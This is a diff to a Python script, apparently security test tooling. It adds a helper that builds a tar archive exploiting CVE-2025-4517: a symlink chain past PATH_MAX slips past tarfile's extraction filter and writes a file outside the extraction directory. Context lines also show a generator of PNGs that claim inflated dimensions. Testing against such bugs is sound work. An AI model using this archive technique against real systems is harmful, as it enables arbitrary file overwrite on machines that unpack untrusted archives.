@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import io
 import os
+import posixpath
 import shutil
 import struct
 import subprocess
 import sys
+import tarfile
 import zlib
 from pathlib import Path
 
@@ -92,6 +95,41 @@ def png_claiming(path: Path, width: int, height: int) -> None:
     data += compressor.compress(row * (height % 1000)) + compressor.flush()
     path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
                      + chunk(b"IDAT", data) + chunk(b"IEND", b""))
+
+
+def add_path_max_chain(tar, extraction_dir_length: int, escape: str, payload: bytes, up: int = 1) -> str:
+    """Add CVE-2025-4517's link chain to the open ``tar``, then a member written through it to ``escape``/name.
+
+    16 nested directories of one long name, a one-letter symlink to each, then a link of sixteen ``..`` placed
+    under the 16 one-letter links: by name it points at the extraction root, but resolved through the long
+    names its path passes PATH_MAX, where non-strict realpath (tarfile's "data" filter on Python < 3.11.13) stops
+    resolving and calls it inside. ``escape`` links to it plus ``up`` ``..``: ``up`` levels above the extraction
+    directory (whose path length the component length is computed from, as CPython's test does). Returns the
+    name of the member written outside.
+    """
+    steps = "abcdefghijklmnop"
+    path_max = os.pathconf("/", "PC_PATH_MAX")
+    component = "d" * ((path_max - extraction_dir_length - 1) // (len(steps) + 1))
+    path = ""
+    for step in steps:
+        info = tarfile.TarInfo(posixpath.join(path, component))
+        info.type, info.mode = tarfile.DIRTYPE, 0o755
+        tar.addfile(info)
+        link = tarfile.TarInfo(posixpath.join(path, step))
+        link.type, link.linkname = tarfile.SYMTYPE, component
+        tar.addfile(link)
+        path = posixpath.join(path, component)
+    long_link = tarfile.TarInfo(posixpath.join(*steps, "l" * 254))
+    long_link.type, long_link.linkname = tarfile.SYMTYPE, posixpath.join(*[".."] * len(steps))
+    tar.addfile(long_link)
+    link = tarfile.TarInfo(escape)
+    link.type, link.linkname = tarfile.SYMTYPE, posixpath.join(long_link.name, *[".."] * up)
+    tar.addfile(link)
+    name = f"{escape}/escaped.txt"
+    info = tarfile.TarInfo(name)
+    info.size = len(payload)
+    tar.addfile(info, io.BytesIO(payload))
+    return name
 
 
 CHROMIUM, CHROMEDRIVER = "/usr/bin/chromium", "/usr/bin/chromedriver"
